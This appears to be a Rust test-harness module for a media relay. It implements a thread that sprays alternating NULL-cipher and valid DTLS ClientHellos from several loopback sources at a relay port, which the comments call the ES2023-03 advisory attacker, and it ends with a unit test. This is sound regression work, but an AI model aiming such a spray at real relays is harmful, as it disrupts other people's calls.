//! A ClientHello spray for tests that put a real call under attack (the headless-browser and
//! DTLS peer tests): a thread that sends the advisory's NULL-cipher ClientHello and a valid
//! one, alternately and each with a fresh client random, at one relay port until stopped. This
//! is the ES2023-03 attacker, who knows the relay's media port (from the SDP, or by trying)
//! but sees none of the call's packets.
//!
//! The scenarios of [`super::scenario`] run their attacks on their own send clock; this one is
//! for callers whose call is driven by someone else (a browser) and lasts as long as it lasts.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use super::packet::fresh_client_hello;
use super::scenario::{HELLO_NULL_CIPHER, HELLO_VALID};

/// Sources for a spray on one machine: five other loopback addresses (all of 127/8 is local
/// on Linux) and another port on 127.0.0.1, the address the tests' parties use. Six sources
/// is more than the handshakes rtpbridge keeps per leg.
pub const LOOPBACK_SOURCES: [IpAddr; 6] = [
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 66)),
    IpAddr::V4(Ipv4Addr::LOCALHOST),
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 67)),
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 68)),
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 69)),
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 70)),
];

/// The count of hellos sent, and its waiters.
type Sent = Arc<(Mutex<u64>, Condvar)>;

/// A running spray; stopped by [`HelloSpray::finish`] or when dropped.
pub struct HelloSpray {
    stop: Arc<AtomicBool>,
    sent: Sent,
    thread: Option<JoinHandle<()>>,
}

impl HelloSpray {
    /// Starts spraying at `to`, one ClientHello every `every`, from a socket on each of
    /// `sources` (port chosen by the system) in turn: the NULL-cipher hello, then the valid
    /// one, from the first source, then both from the next, and so on.
    pub fn start(
        sources: &[IpAddr],
        to: SocketAddr,
        every: Duration,
    ) -> std::io::Result<HelloSpray> {
        if sources.is_empty() {
            return Err(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "no source address to spray from",
            ));
        }
        let socks = sources
            .iter()
            .map(|ip| UdpSocket::bind((*ip, 0)))
            .collect::<std::io::Result<Vec<_>>>()?;
        let stop = Arc::new(AtomicBool::new(false));
        let sent: Sent = Arc::new((Mutex::new(0), Condvar::new()));
        let (st, se) = (stop.clone(), sent.clone());
        let thread = std::thread::spawn(move || {
            let mut n = 0u64;
            let mut next = Instant::now();
            while !st.load(Ordering::Relaxed) {
                let fixture = if n.is_multiple_of(2) {
                    HELLO_NULL_CIPHER
                } else {
                    HELLO_VALID
                };
                let hello = fresh_client_hello(fixture, n);
                let sock = &socks[(n / 2) as usize % socks.len()];
                if sock.send_to(&hello, to).is_ok() {
                    if let Ok(mut n) = se.0.lock() {
                        *n += 1;
                    }
                    se.1.notify_all();
                }
                n += 1;
                // Pacing: the spray keeps its rate whatever the call does.
                next += every;
                std::thread::sleep(next.saturating_duration_since(Instant::now()));
            }
        });
        Ok(HelloSpray {
            stop,
            sent,
            thread: Some(thread),
        })
    }

    /// ClientHellos sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.0.lock().map(|n| *n).unwrap_or(0)
    }

    /// Waits until at least `n` ClientHellos are out (a caller that wants the attacker to
    /// have gone first); false if that took longer than `timeout`.
    pub fn wait_sent(&self, n: u64, timeout: Duration) -> bool {
        let (lock, cv) = &*self.sent;
        let Ok(g) = lock.lock() else { return false };
        cv.wait_timeout_while(g, timeout, |sent| *sent < n)
            .map(|(sent, _)| *sent >= n)
            .unwrap_or(false)
    }

    /// Stops the spray; returns how many ClientHellos it sent.
    pub fn finish(mut self) -> u64 {
        self.halt();
        self.sent()
    }

    fn halt(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

impl Drop for HelloSpray {
    fn drop(&mut self) {
        self.halt();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::packet::CLIENT_HELLO_RANDOM;

    /// The spray alternates the two hellos and the sources, each hello with its own random.
    #[test]
    fn alternates_hellos_and_sources() {
        let rx = UdpSocket::bind("127.0.0.1:0").unwrap();
        rx.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let lo: IpAddr = [127, 0, 0, 1].into();
        let spray = HelloSpray::start(
            &[lo, lo],
            rx.local_addr().unwrap(),
            Duration::from_millis(1),
        )
        .unwrap();
        let mut buf = [0u8; 2048];
        let mut got = Vec::new();
        while got.len() < 8 {
            let (n, from) = rx.recv_from(&mut buf).unwrap();
            got.push((buf[..n].to_vec(), from));
        }
        assert!(spray.wait_sent(8, Duration::from_secs(5)));
        let sent = spray.finish();
        assert!(sent >= 8);
        let strip = |h: &[u8]| {
            let mut h = h.to_vec();
            h[CLIENT_HELLO_RANDOM..CLIENT_HELLO_RANDOM + 32].fill(0);
            h
        };
        for (i, (h, from)) in got.iter().enumerate() {
            let want = if i % 2 == 0 {
                HELLO_NULL_CIPHER
            } else {
                HELLO_VALID
            };
            assert_eq!(strip(h), strip(want), "hello {i}");
            // Hellos 0,1 from one socket, 2,3 from the other, 4,5 from the first again.
            let pair_from = &got[(i / 2) * 2].1;
            assert_eq!(from, pair_from);
            if i >= 2 {
                assert_ne!(from, &got[i - 2].1, "hello {i} from the other source");
            }
        }
        assert_ne!(
            got[0].0[CLIENT_HELLO_RANDOM..CLIENT_HELLO_RANDOM + 32],
            got[2].0[CLIENT_HELLO_RANDOM..CLIENT_HELLO_RANDOM + 32]
        );
    }
}
